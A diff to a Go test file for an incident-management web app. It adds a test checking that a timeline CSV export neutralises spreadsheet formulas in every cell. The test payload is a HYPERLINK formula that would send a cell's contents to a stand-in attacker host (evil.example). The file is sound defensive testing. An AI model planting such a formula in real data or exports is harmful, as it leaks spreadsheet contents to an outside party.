@@ -1,10 +1,16 @@
 package web_test
 
 import (
+	"context"
+	"encoding/csv"
 	"net/http"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/require"
+
+	"github.com/firebreakhq/firebreak/incident"
 )
 
 // TestSignedInAnswersAreNeverStored: everything a signed-in person is
@@ -27,4 +33,33 @@ func TestSignedInAnswersAreNeverStored(t *testing.T) {
 		require.Contains(t, []int{http.StatusOK, http.StatusNotFound}, resp.StatusCode, path)
 		require.Contains(t, resp.Header.Get("Cache-Control"), "no-store", path)
 	}
+}
+
+// TestTimelineCSVNeutralisesFormulasInEveryCell: a captured message of
+// another app is attributed to the app by the name its bot profile or
+// the message's username gives, which whoever sets up the app chooses; a
+// name that reads as a spreadsheet formula is neutralised as the text is.
+func TestTimelineCSVNeutralisesFormulasInEveryCell(t *testing.T) {
+	t.Parallel()
+	f := setup(t)
+	app := `=HYPERLINK("https://evil.example/?"&A1,"open")`
+	require.NoError(t, f.store.AddTimelineEvent(context.Background(), &incident.TimelineEvent{IncidentID: f.public.ID,
+		Kind: incident.EventMessage, Actor: app, At: f.public.DeclaredAt.Add(time.Minute), Text: "@here deploy 4812 rolled back",
+		SourceID: "msg:1711800060.000100", Payload: incident.MessageData{App: app, TS: "1711800060.000100"}}))
+	b := f.browser()
+	b.signIn(f.bob)
+	resp, body := b.get("/incidents/" + itoa(f.public.Number) + "/timeline.csv")
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	require.NoError(t, err)
+	var found bool
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			require.False(t, cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])), "cell %q of row %q reads as a formula", cell, row)
+		}
+		if row[2] == "'"+app {
+			found = true
+		}
+	}
+	require.True(t, found, "the app's message is in the CSV, its name kept after the quote: %q", rows)
 }
